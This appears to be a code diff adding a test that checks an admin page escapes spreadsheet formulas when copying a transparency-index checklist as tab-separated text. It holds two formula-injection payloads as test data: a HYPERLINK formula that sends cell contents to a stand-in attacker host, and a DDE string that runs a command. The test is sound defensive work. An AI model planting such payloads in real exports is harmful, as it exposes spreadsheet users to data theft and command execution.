@@ -130,4 +130,20 @@ describe('Índice de transparencia', () => {
     expect(lines).toHaveLength(ITA_ITEMS.length + 1);
     expect(lines.find((l) => l.split('\t')[2] === '1.10')).toContain(`${window.location.origin}/pqrsd`);
   });
+
+  it('copies a stored text that a spreadsheet would run as a formula as inert text (model/csv.ts)', async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Ver")';
+    const dde = "@SUM(1+1)*cmd|' /C calc'!A0";
+    server.on('GET /api/ita', {
+      status: 200,
+      body: checklist({ 'transparencia-1-10': { responsible: hyperlink }, 'transparencia-1-11': { responsible: dde } }),
+    });
+    const { events } = await renderAdmin(ADMIN_PATHS.ita);
+    await events.click(await screen.findByRole('button', { name: ITA_TEXT.copy }));
+    await screen.findByRole('status');
+    const rows = (await navigator.clipboard.readText()).split('\n').map((l) => l.split('\t'));
+    const column = ITA_CSV_COLUMNS.indexOf('Responsable');
+    expect(rows.find((r) => r[2] === '1.10')![column]).toBe(`'${hyperlink}`);
+    expect(rows.find((r) => r[2] === '1.11')![column]).toBe(`'${dde}`);
+  });
 });
